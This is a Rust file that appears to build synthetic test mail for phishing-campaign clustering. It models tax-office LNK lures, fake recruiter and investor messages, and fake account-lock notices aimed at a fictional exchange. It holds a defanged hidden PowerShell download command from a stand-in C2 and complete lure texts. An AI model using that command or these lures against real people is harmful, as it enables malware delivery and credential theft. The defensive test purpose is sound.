//! Campaign "dprk-2026": three waves against Hanbit, May to August 2026, in the manner of Kimsuky
//! (tax-authority lures with an LNK in an archive, credential harvesting) and Lazarus (fake recruiters
//! and investors at crypto companies).
//!
//! Infrastructure (all reserved documentation addresses, RFC 5737; look-alike domains invented):
//!
//! | value | used in |
//! |---|---|
//! | VPS 203.0.113.57 (`mail.nts-go.kr`) | origin of wave 1 (nts-go.kr), wave 2 (arcadiabridge-vc.com), one of wave 3 |
//! | VPS 203.0.113.61 (`mx.nts-gov.kr`) | origin of wave 1 (nts-gov.kr) |
//! | 192.0.2.201 (`mail.hanbit-x.co`) | origin of wave 3 |
//! | `cdn-update.nts-docs.kr` | the C2 in every LNK command line |
//! | `view.nts-docs.kr` `/s/<token>/...` | wave 2 document links, one wave 3 link |
//! | `login.nts-docs.kr` `/s/<token>/sso` | wave 3 credential links |
//! | LNK machine id `desktop-k7r2m1q` | every shortcut (same builder) |
//!
//! Weak values on purpose (shared with bankphish or benign mail, never enough alone): gmail.com
//! senders and Google's relay address, a bit.ly link, a docs.google.com link, the security-notice
//! lure, recipients.

use super::{shllink, Route, Shortcut, Spec};
use crate::cases::{at, e};
use crate::compose::mb;
use crate::org::{
    emp, ACCOUNTANT, AML, ASSISTANT, CFO, CISO, FINANCE, HR, OPS, OPS2, RECRUITER, SECENG,
    TREASURY, TREASURY2,
};
use crate::rng::Rng;

pub(super) const CAMPAIGN: &str = "dprk-2026";

/// The command line of every shortcut of the campaign (MS-SHLLINK §2.4 COMMAND_LINE_ARGUMENTS). Text
/// only, the URL defanged: nothing here runs.
pub(crate) const LNK_ARGS: &str = r#"/c powershell -w hidden -c "iwr hxxp://cdn-update.nts-docs.kr/a.txt -OutFile $env:TEMP\a.ps1""#;
const MACHINE: &str = "desktop-k7r2m1q";

const VPS: &str = "203.0.113.57";
const NTS_GO: Route = Route::Direct {
    host: "mail.nts-go.kr",
    ip: VPS,
};
const NTS_GOV: Route = Route::Direct {
    host: "mx.nts-gov.kr",
    ip: "203.0.113.61",
};
/// Wave 2's domain has its own relay, but the messages are submitted from the wave-1 VPS.
const ARCADIA: Route = Route::Relayed {
    client: VPS,
    relay: "smtp.arcadiabridge-vc.com",
    relay_ip: "198.51.100.188",
};
const HBX_CO: Route = Route::Direct {
    host: "mail.hanbit-x.co",
    ip: "192.0.2.201",
};
/// One wave-3 message was sent by the old VPS, relayed through the look-alike's server.
const HBX_CO_VIA_VPS: Route = Route::Relayed {
    client: VPS,
    relay: "mail.hanbit-x.co",
    relay_ip: "192.0.2.201",
};

/// The shortcut of wave 1, byte for byte the same in every archive that carries it.
pub(crate) fn base_lnk() -> Vec<u8> {
    shllink(&Shortcut {
        name: "원천징수영수증.hwp",
        args: LNK_ARGS,
        icon: None,
        machine: MACHINE,
        padding: 0,
    })
}

/// The same command line with a Hangul Office icon and 2 KiB of padding: other bytes, other hash.
fn icon_lnk() -> Vec<u8> {
    shllink(&Shortcut {
        name: "원천징수영수증.hwp",
        args: LNK_ARGS,
        icon: Some((
            r"%ProgramFiles(x86)%\Hnc\Office 2022\HOffice120\Bin\Hwp.exe",
            1,
        )),
        machine: MACHINE,
        padding: 2048,
    })
}

/// The same command line under another decoy name (wave 2's term sheet).
fn termsheet_lnk() -> Vec<u8> {
    shllink(&Shortcut {
        name: "Arcadia Term Sheet.docx",
        args: LNK_ARGS,
        icon: Some((r"%SystemRoot%\System32\imageres.dll", 2)),
        machine: MACHINE,
        padding: 0,
    })
}

pub(super) fn specs() -> Vec<Spec> {
    let mut rng = Rng::new(0xD9A1_2026);
    let mut v = wave1(&mut rng);
    v.extend(wave2(&mut rng));
    v.extend(wave3(&mut rng));
    v
}

/// "오성호 님" style: how a tax office addresses a taxpayer (no job title).
fn nim(i: usize) -> String {
    format!("{} 님", emp(i).hangul)
}

// Wave 1 (May 2026): National Tax Service withholding-receipt lure, Korean.
//
// Senders: 국세청 <notice@nts-go.kr> from the VPS 203.0.113.57, and 국세청 홈택스
// <hometax@nts-gov.kr> from 203.0.113.61; display names vary. Each carries a stored ZIP with one
// `<name>_2025귀속_원천징수영수증.hwp.lnk`: the member name holds the recipient's name, so every
// archive's bytes (and SHA-256) differ.
//
// Strong links:
// - 7 of 8 archives hold the same shortcut bytes (`base_lnk`): same inner-file SHA-256;
// - all 8 shortcuts carry LNK_ARGS, including the one with an icon and padding (message 7);
// - the nts-go.kr messages (1, 2, 4, 6, 8) share the origin 203.0.113.57, the nts-gov.kr ones
//   (3, 5, 7) share 203.0.113.61; each group shares its sender address;
// - templates v0 (1, 2, 6) and v1 (3, 5, 7) are near-duplicates within their group.
fn wave1(rng: &mut Rng) -> Vec<Spec> {
    // (recipient, nts-go.kr?, date, display name, subject, archive name, template, icon variant)
    #[allow(clippy::type_complexity)]
    let rows: [(
        usize,
        bool,
        (u32, u32, u32, u32),
        &str,
        &str,
        &str,
        usize,
        bool,
    ); 8] = [
        (
            ACCOUNTANT,
            true,
            (5, 6, 9, 12),
            "국세청",
            "[국세청] 2025년 귀속 근로소득 원천징수영수증 정정 발급 안내",
            "원천징수영수증_오성호.zip",
            0,
            false,
        ),
        (
            FINANCE,
            true,
            (5, 6, 9, 14),
            "국세청 원천세과",
            "[국세청] 2025년 귀속 근로소득 원천징수영수증 정정 발급 안내",
            "2025귀속_원천징수영수증(정정).zip",
            0,
            false,
        ),
        (
            HR,
            false,
            (5, 8, 14, 40),
            "국세청 홈택스",
            "[홈택스] 근로소득 원천징수영수증 전자문서 발급 안내",
            "홈택스_전자문서.zip",
            1,
            false,
        ),
        (
            RECRUITER,
            true,
            (5, 12, 10, 3),
            "국세청",
            "[국세청] 원천징수영수증 확인 요청 (회신 기한 5월 19일)",
            "원천징수영수증_확인요청.zip",
            2,
            false,
        ),
        (
            TREASURY2,
            false,
            (5, 13, 16, 21),
            "홈택스",
            "[홈택스] 2025년 귀속 원천징수영수증 발급 완료 안내",
            "원천징수영수증_한유나.zip",
            1,
            false,
        ),
        (
            OPS2,
            true,
            (5, 15, 8, 55),
            "National Tax Service",
            "[국세청] 원천징수영수증 정정 발급 안내 (2025년 귀속)",
            "NTS_원천징수영수증.zip",
            0,
            false,
        ),
        (
            ASSISTANT,
            false,
            (5, 19, 11, 30),
            "국세청 홈택스",
            "[홈택스] 근로소득 원천징수영수증 전자문서 재발급 안내",
            "홈택스_전자문서_재발급.zip",
            1,
            true,
        ),
        (
            AML,
            true,
            (5, 21, 13, 47),
            "국세청 원천세과",
            "[국세청] 원천징수영수증 서명 후 회신 요청",
            "원천징수영수증_서명요청.zip",
            2,
            false,
        ),
    ];
    let mut v = Vec::new();
    for (to, go, (m, d, hh, mm), display, subject, zip_name, template, icon) in rows {
        let (addr, route) = if go {
            ("notice@nts-go.kr", NTS_GO)
        } else {
            ("hometax@nts-gov.kr", NTS_GOV)
        };
        let mut s = Spec::new(
            Some(CAMPAIGN),
            1,
            mb(display, addr),
            vec![e(to)],
            subject,
            at(m, d, hh, mm),
            route,
        );
        let name = nim(to);
        let due = format!("5월 {}일", d + 7);
        let docno = format!(
            "2025-{}-{}",
            rng.range(1000, 9999),
            rng.range(100_000, 999_999)
        );
        s.text = match template {
            0 => format!(
                "{name} 귀하\n\n국세청 원천세과입니다.\n\n한빛디지털거래소에서 제출한 2025년 귀속 근로소득 지급명세서 가운데 {name}의 원천징수영수증에 정정 사항이 확인되어, 정정된 영수증을 첨부와 같이 보내드립니다.\n\n첨부 파일(압축)을 열어 한글 문서로 된 영수증의 내용을 확인하시고, 이상이 있으면 {due}까지 관할 세무서 원천세과로 알려 주시기 바랍니다. 기한 내 확인이 없으면 정정 내용대로 확정되며, 종합소득세 신고 시 가산세가 부과될 수 있습니다.\n\n※ 개인정보 보호를 위해 문서는 압축 파일로만 제공됩니다.\n\n국세청 원천세과\n세종특별자치시 국세청로 8-14\n"
            ),
            1 => format!(
                "[홈택스 전자문서 안내]\n\n{name}, 안녕하십니까.\n2025년 귀속 연말정산 결과에 따른 근로소득 원천징수영수증이 전자문서로 발급되었습니다.\n\n  - 발급 기관: 국세청 홈택스\n  - 문서 번호: {docno}\n  - 열람 기한: {due}\n\n보안을 위해 영수증은 압축 파일(첨부)로 발송되며, 한글(HWP) 문서로 열람하실 수 있습니다. 열람 기한이 지나면 문서가 폐기되어 세무서를 직접 방문하셔야 합니다.\n\n국세청 홈택스 고객센터 126\n"
            ),
            _ => format!(
                "{name},\n\n요청하신 2025년 귀속 원천징수영수증을 첨부합니다. 압축을 풀어 내용을 확인해 주세요.\n확인 후 서명하여 {due}까지 회신 바랍니다.\n\n국세청 원천세과 드림\n"
            ),
        };
        let lnk = if icon { icon_lnk() } else { base_lnk() };
        let member = format!("{}_2025귀속_원천징수영수증.hwp.lnk", emp(to).hangul);
        s.zip(zip_name, &[(member, lnk)], &[LNK_ARGS]);
        s.extra.push(("X-Mailer".into(), "PHPMailer 6.9.1".into()));
        v.push(s);
    }
    v
}

/// The recruiter's message: one template, a few words changed per target.
fn job_text(first: &str, team: &str, role: &str, url: &str, expiry: &str, gmail: bool) -> String {
    let note = if gmail {
        "(I am writing from my personal address while our corporate mail is being migrated.)\n\n"
    } else {
        ""
    };
    format!(
        "Dear {first},\n\n{note}I hope this message finds you well. My name is Daniel Whitfield and I lead talent acquisition for Arcadia Bridge Ventures, a Singapore-based fund that backs digital asset exchanges and custody platforms across Asia.\n\nOne of our portfolio companies, a fast-growing regulated exchange, is building out its {team} team and has asked me to approach a small number of senior people in Korea. Your background at Hanbit Digital Exchange stood out, and I believe you would be an excellent fit for the {role} position.\n\nThe package is highly competitive: a base salary well above market, a signing bonus paid in USDT, a token allocation with a short vesting period, and fully remote work with quarterly trips to Singapore.\n\nI have uploaded the full job description and compensation details to our secure document room. Please sign in with your work email to view them:\n{url}\n\nThe access link is personal and expires on {expiry}. If the timing works for you, I would be glad to arrange a short call with the founders next week.\n\nBest regards,\nDaniel Whitfield\nTalent Partner | Arcadia Bridge Ventures\nOne Raffles Quay, North Tower, Singapore 048583\n"
    )
}

// Wave 2 (June-July 2026): fake recruiter and investor of "Arcadia Bridge Ventures", English.
//
// Senders: daniel.whitfield@arcadiabridge-vc.com, relayed by smtp.arcadiabridge-vc.com but
// submitted from the wave-1 VPS 203.0.113.57; daniel.whitfield.abv@gmail.com (message 5) and
// arcadia.bridge.ir@gmail.com (message 4), neither with an origin.
//
// Strong links:
// - messages 1, 2, 3, 6, 7 (arcadiabridge-vc.com): origin 203.0.113.57, the same as wave 1's
//   nts-go.kr messages (the bridge from wave 1), and the same sender address;
// - message 3 attaches a plain ZIP whose member is byte for byte wave 1's shortcut (same inner
//   SHA-256, same LNK command line);
// - message 4 (gmail) attaches a "password-protected" ZIP (the password is in the body; the archive is
//   plain) with another shortcut carrying the same LNK_ARGS: its only strong link is the command line
//   (its docs.google.com link and gmail.com domain are weak);
// - job offers 1, 2, 5, 6, 7 link to view.nts-docs.kr (same non-public host; same registrable
//   domain as the wave-1 C2) and are near-duplicates of one template; message 5 (gmail) is linked
//   only by host and body.
fn wave2(rng: &mut Rng) -> Vec<Spec> {
    let corp = mb("Daniel Whitfield", "daniel.whitfield@arcadiabridge-vc.com");
    let gmail = mb("Daniel Whitfield", "daniel.whitfield.abv@gmail.com");
    let mut v = Vec::new();
    // Job offers.
    // (recipient, gmail?, date, subject, team, role, expiry)
    #[allow(clippy::type_complexity)]
    let offers: [(usize, bool, (u32, u32, u32, u32), &str, &str, &str, &str); 5] = [
        (
            SECENG,
            false,
            (6, 9, 17, 5),
            "Senior Security Engineer - confidential search (Singapore, remote)",
            "security engineering",
            "Senior Security Engineer",
            "June 16",
        ),
        (
            OPS,
            false,
            (6, 16, 16, 40),
            "Head of Exchange Operations - confidential opportunity",
            "exchange operations",
            "Head of Exchange Operations",
            "June 23",
        ),
        (
            OPS2,
            true,
            (7, 6, 21, 12),
            "Operations Lead role at a regulated exchange (remote)",
            "exchange operations",
            "Operations Lead",
            "July 13",
        ),
        (
            CISO,
            false,
            (7, 13, 18, 2),
            "CISO opportunity - Arcadia Bridge portfolio exchange",
            "information security",
            "Chief Information Security Officer",
            "July 20",
        ),
        (
            AML,
            false,
            (7, 15, 15, 27),
            "AML and Compliance Lead - confidential search",
            "compliance",
            "AML and Compliance Lead",
            "July 22",
        ),
    ];
    for (to, g, (m, d, hh, mm), subject, team, role, expiry) in offers {
        let (from, route) = if g {
            (gmail.clone(), Route::Gmail)
        } else {
            (corp.clone(), ARCADIA)
        };
        let mut s = Spec::new(
            Some(CAMPAIGN),
            2,
            from,
            vec![e(to)],
            subject,
            at(m, d, hh, mm),
            route,
        );
        s.tz = 480;
        let slug = role.replace(' ', "_");
        let url = format!(
            "https://view.nts-docs.kr/s/{}/Arcadia_JD_{slug}.pdf",
            rng.hex(12)
        );
        s.text = job_text(emp(to).first(), team, role, &url, expiry, g);
        s.extra
            .push(("X-Mailer".into(), "Microsoft Outlook 16.0".into()));
        v.push(s);
    }
    // Partnership deck with the wave-1 shortcut itself.
    let mut s = Spec::new(
        Some(CAMPAIGN),
        2,
        corp.clone(),
        vec![e(TREASURY)],
        "OTC liquidity partnership - Arcadia Bridge portfolio (deck attached)",
        at(6, 23, 11, 18),
        ARCADIA,
    );
    s.tz = 480;
    s.text = "Dear Dohyun,\n\nI am reaching out on behalf of Arcadia Bridge Ventures. Two of our portfolio market makers are looking for a Korean exchange partner for OTC settlement in KRW, and your treasury team was recommended to us.\n\nOur partnership deck, including the proposed fee split and settlement flow, is attached. As the figures are confidential, the deck is packaged as a protected document; please open it on a Windows PC.\n\nI would welcome a call at your convenience.\n\nKind regards,\nDaniel Whitfield\nArcadia Bridge Ventures\n".into();
    s.zip(
        "Arcadia_Bridge_Partnership_Deck.zip",
        &[("Partnership_Deck_2026.pdf.lnk".to_string(), base_lnk())],
        &[LNK_ARGS],
    );
    v.push(s);
    // Term sheet from gmail, "password protected".
    let mut s = Spec::new(
        Some(CAMPAIGN),
        2,
        mb("Arcadia Bridge IR", "arcadia.bridge.ir@gmail.com"),
        vec![e(CFO)],
        "Strategic investment in Hanbit - term sheet (confidential)",
        at(6, 30, 20, 44),
        Route::Gmail,
    );
    s.tz = 480;
    s.text = "Dear Ms. Choi,\n\nFollowing our fund's investment committee last week, Arcadia Bridge Ventures would like to propose a strategic minority investment in Hanbit Digital Exchange.\n\nThe indicative term sheet is attached as an encrypted archive. Password: ABV2026\n\nA summary of our portfolio is also available here:\nhttps://docs.google.com/document/d/1pX7rQw3ZtLmN8vKc2HsB5yJfD0aEgU4oTiR9nWqCmVb/view\n\nWe would be happy to meet in Seoul at the end of July.\n\nBest regards,\nDaniel Whitfield\nArcadia Bridge Ventures\n".into();
    s.zip(
        "Arcadia_TermSheet_Hanbit(pw_ABV2026).zip",
        &[("TermSheet_Hanbit_v3.docx.lnk".to_string(), termsheet_lnk())],
        &[LNK_ARGS],
    );
    v.push(s);
    v
}

fn notice_ko(name: &str, date: &str, url: &str, deadline: &str) -> String {
    format!(
        "{name}, 안녕하세요.\n한빛디지털거래소 정보보호실입니다.\n\n{date} 해외(네덜란드)에서 귀하의 사내 통합계정으로 비정상적인 로그인 시도가 여러 차례 감지되었습니다. 계정 보호를 위해 현재 계정이 임시 잠금 상태이며, 아래 링크에서 본인 확인 후 비밀번호를 재설정하셔야 그룹웨어, 지갑 관리 콘솔, 메일 등 업무 시스템을 계속 이용하실 수 있습니다.\n\n본인 확인 및 비밀번호 재설정: {url}\n\n{deadline}까지 본인 확인이 완료되지 않으면 보안 정책에 따라 계정이 영구 잠금되며, 복구에는 정보보호실의 별도 승인이 필요합니다. 본 메일은 발신 전용이므로 회신하지 마시고, 문의 사항은 정보보호실 내선 2417로 연락 바랍니다.\n\n한빛디지털거래소 정보보호실\n"
    )
}

fn notice_en(first: &str, date: &str, url: &str, deadline: &str) -> String {
    format!(
        "Dear {first},\n\nThis is the Hanbit IT Security Desk.\n\nOn {date} we detected several failed sign-in attempts to your Hanbit single sign-on account from an unrecognised device outside Korea. As a precaution your account has been temporarily locked. To keep using the groupware, the wallet operations console and mail, please verify your identity and reset your password using the secure link below:\n\n{url}\n\nIf verification is not completed by {deadline}, the account will be permanently locked under the security policy and restoring it will require approval from the security team. This mailbox is not monitored; for questions call the security desk on extension 2417.\n\nHanbit IT Security Desk\nHanbit Digital Exchange\n"
    )
}

// Wave 3 (August 2026): fake security notice of Hanbit's own security team, from the look-alike
// hanbit-x.co (Korean: security@, English: it-helpdesk@), credential links on the wave-2 hosting.
//
// Strong links:
// - the Korean messages 1-4 share the sender security@hanbit-x.co and are near-duplicates; the
//   English messages 5-7 share it-helpdesk@hanbit-x.co and are near-duplicates;
// - messages 1, 3, 4, 6, 7 link to login.nts-docs.kr/s/<token>/sso (same host; the same /s/<token>/
//   path pattern on the same registrable domain as wave 2's view.nts-docs.kr);
// - message 5 links to view.nts-docs.kr itself (the same host as wave 2: the bridge to wave 2);
// - message 7 was submitted from the VPS 203.0.113.57 (the same origin as waves 1 and 2);
// - message 2's only link is bit.ly (weak, shared with bankphish): sender and body carry it;
// - all but 7 come from 192.0.2.201.
fn wave3(rng: &mut Rng) -> Vec<Spec> {
    let ko = mb("한빛디지털거래소 정보보호실", "security@hanbit-x.co");
    let en = mb("Hanbit IT Security Desk", "it-helpdesk@hanbit-x.co");
    // (recipient, Korean?, date, subject, link kind: 0 login, 1 bit.ly, 2 view, route via VPS?)
    #[allow(clippy::type_complexity)]
    let rows: [(usize, bool, (u32, u32, u32, u32), &str, u8, bool); 7] = [
        (
            TREASURY,
            true,
            (8, 17, 8, 41),
            "[정보보호실] 비정상 로그인 감지 - 계정 임시 잠금 안내",
            0,
            false,
        ),
        (
            TREASURY2,
            true,
            (8, 17, 8, 44),
            "[정보보호실] 비정상 로그인 감지 - 계정 임시 잠금 안내",
            1,
            false,
        ),
        (
            ASSISTANT,
            true,
            (8, 19, 9, 2),
            "[정보보호실] 사내 통합계정 임시 잠금 안내 (본인 확인 필요)",
            0,
            false,
        ),
        (
            FINANCE,
            true,
            (8, 24, 8, 37),
            "[긴급] 비정상 로그인 감지에 따른 계정 잠금 안내",
            0,
            false,
        ),
        (
            SECENG,
            false,
            (8, 20, 10, 15),
            "[IT Security] Your Hanbit account has been temporarily locked",
            2,
            false,
        ),
        (
            OPS2,
            false,
            (8, 25, 9, 48),
            "[IT Security] Unusual sign-in activity - action required",
            0,
            false,
        ),
        (
            OPS,
            false,
            (8, 27, 7, 58),
            "[IT Security] Your Hanbit account has been temporarily locked",
            0,
            true,
        ),
    ];
    let mut v = Vec::new();
    for (to, korean, (m, d, hh, mm), subject, link, via_vps) in rows {
        let route = if via_vps { HBX_CO_VIA_VPS } else { HBX_CO };
        let from = if korean { ko.clone() } else { en.clone() };
        let mut s = Spec::new(
            Some(CAMPAIGN),
            3,
            from,
            vec![e(to)],
            subject,
            at(m, d, hh, mm),
            route,
        );
        let local = emp(to).addr().split('@').next().unwrap_or("");
        let token = rng.hex(12);
        let url = match link {
            0 => format!("https://login.nts-docs.kr/s/{token}/sso?u={local}"),
            1 => "https://bit.ly/3Kd9xQm".to_string(),
            _ => format!("https://view.nts-docs.kr/s/{token}/sso?u={local}"),
        };
        if korean {
            let date = format!("8월 {}일 {:02}:{:02}", d - 1, (hh + 15) % 24, (mm * 7) % 60);
            let deadline = format!("8월 {}일 18:00", d + 1);
            let name = emp(to).honorific();
            s.text = notice_ko(&name, &date, &url, &deadline);
            s.html = Some(format!(
                "<html><body><p>{name}, 안녕하세요.<br>한빛디지털거래소 정보보호실입니다.</p><p>해외에서 귀하의 사내 통합계정으로 비정상적인 로그인 시도가 감지되어 계정이 <b>임시 잠금</b>되었습니다.</p><p><a href=\"{url}\">본인 확인 및 비밀번호 재설정</a></p><p>{deadline}까지 본인 확인이 완료되지 않으면 계정이 영구 잠금됩니다.</p><p>한빛디지털거래소 정보보호실</p></body></html>"
            ));
        } else {
            let date = format!(
                "August {} at {:02}:{:02} KST",
                d - 1,
                (hh + 15) % 24,
                (mm * 7) % 60
            );
            let deadline = format!("August {}, 18:00 KST", d + 1);
            s.text = notice_en(emp(to).first(), &date, &url, &deadline);
            s.html = Some(format!(
                "<html><body><p>Dear {},</p><p>We detected several failed sign-in attempts to your Hanbit single sign-on account. Your account has been <b>temporarily locked</b>.</p><p><a href=\"{url}\">Verify your identity</a></p><p>If verification is not completed by {deadline}, the account will be permanently locked.</p><p>Hanbit IT Security Desk</p></body></html>",
                emp(to).first()
            ));
        }
        v.push(s);
    }
    v
}
